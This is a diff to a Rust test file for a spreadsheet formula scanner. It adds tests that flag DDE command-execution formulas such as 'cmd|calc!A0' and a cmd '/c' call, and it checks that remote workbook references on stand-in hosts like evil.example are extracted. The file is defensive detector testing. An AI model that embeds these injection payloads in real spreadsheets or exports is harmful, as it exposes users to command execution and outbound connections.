@@ -66,20 +66,69 @@ fn bars_that_ask_nobody() {
 }
 
 #[test]
+fn a_substance_and_handles_ask_nobody() {
+    for formula in [
+        "SUM(Table1[DDE (ng/g)])",
+        "[[#This Row],[DDE (ng/g)]]*2",
+        "SUM(Table1[[DDE (p,p\u{b4};o,p\u{b4})]:[DDE (a, b, c)]])",
+        "DDE (metabolite)",
+        "DDE(total)",
+        "SUM(DDE (A1:A9), B1, C1)",
+    ] {
+        assert!(!is_dde(formula), "{formula}");
+    }
+    for formula in ["foo|bar!baz", " Login|user!pass", "nick|user!host", " DDE (a, b, c)", " Sale|Hot!now"] {
+        assert!(!asks(formula, Written::Prose), "{formula}");
+    }
+    for formula in [
+        "cmd|calc!A0",
+        " foo|'/c calc'!A0",
+        "foo|\\\\evil.example\\a!A0",
+        "foo|system32/calc!A0",
+        "SUM(1)*foo|calc.exe!A0",
+        "DDE(\"cmd\";\"/c x\";\"y\")",
+    ] {
+        assert!(asks(formula, Written::Prose), "{formula}");
+    }
+    for formula in ["foo|bar!baz", "DDE (A1,B1,C1)", "Table1[a]*DDE(\"cmd\";A1;\"x\")", "[.A1]&DDE(A1;B1;C1)"] {
+        assert!(is_dde(formula), "{formula}");
+    }
+}
+
+#[test]
 fn books_on_other_machines() {
     for (formula, expected) in [
-        ("'\\\\evil.example\\share\\[B.XLSX]S'!A1", vec!["\\\\evil.example\\share\\B.XLSXS"]),
-        ("'C:\\a\\[x.xlsx]S'!A1+'\\\\evil.example\\[b.csv]S'!A1", vec!["C:\\a\\x.xlsxS", "\\\\evil.example\\b.csvS"]),
-        ("'\\\\h.example\\[b]S' !A1", vec!["\\\\h.example\\bS"]),
+        ("'\\\\evil.example\\share\\[B.XLSX]S'!A1", vec!["\\\\evil.example\\share\\B.XLSX"]),
+        ("'C:\\a\\[x.xlsx]S'!A1+'\\\\evil.example\\[b.csv]S'!A1", vec!["\\\\evil.example\\b.csv"]),
+        ("'\\\\h.example\\[b]S' !A1", vec!["\\\\h.example\\b"]),
         ("['https://h.example/x.ods'#$S.A1]", vec!["https://h.example/x.ods"]),
-        ("SUM(\\\\h.example\\a\\[b.xls]S!A1)", vec!["\\\\h.example\\a\\b.xlsS"]),
-        ("1+https://h.example/[b.xlsx]S!A1", vec!["https://h.example/b.xlsxS"]),
+        ("SUM(\\\\h.example\\a\\[b.xls]S!A1)", vec!["\\\\h.example\\a\\b.xls"]),
+        ("1+https://h.example/[b.xlsx]S!A1", vec!["https://h.example/b.xlsx"]),
         ("\"'\\\\h.example\\a'!A1\"", vec![]),
         ("'My sheet'!A1/2", vec![]),
     ] {
-        assert_eq!(other_books(formula), expected, "{formula}");
+        let found = other_books(formula);
+        assert_eq!(
+            (found.remote.iter().map(String::as_str).collect::<Vec<_>>().as_slice(), found.is_cut),
+            (expected.as_slice(), false),
+            "{formula}"
+        );
     }
-    assert_eq!(other_books(&"'\\\\h\\a'!A1+".repeat(100)).len(), BOOKS_MAX);
+}
+
+#[test]
+fn a_book_behind_many_others() {
+    let last = "'\\\\evil.example\\share\\[B.xlsx]S'!A1";
+    let own = |number: usize| format!("'C:\\a\\[x{number}.xlsx]S'!A1+");
+    for formula in
+        [(0..200).map(own).collect::<String>() + last, "'\\\\evil.example\\share\\[B.xlsx]T'!A1+".repeat(200) + last]
+    {
+        let found = other_books(&formula);
+        assert_eq!(found, Books { remote: vec!["\\\\evil.example\\share\\B.xlsx".to_owned()], is_cut: false });
+    }
+    let other = |number: usize| format!("'\\\\h{number}.example\\a\\[b]S'!A1+");
+    let found = other_books(&((0..BOOKS_MAX).map(other).collect::<String>() + last));
+    assert!(found.is_cut && found.remote.len() == BOOKS_MAX, "{found:?}");
 }
 
 #[test]
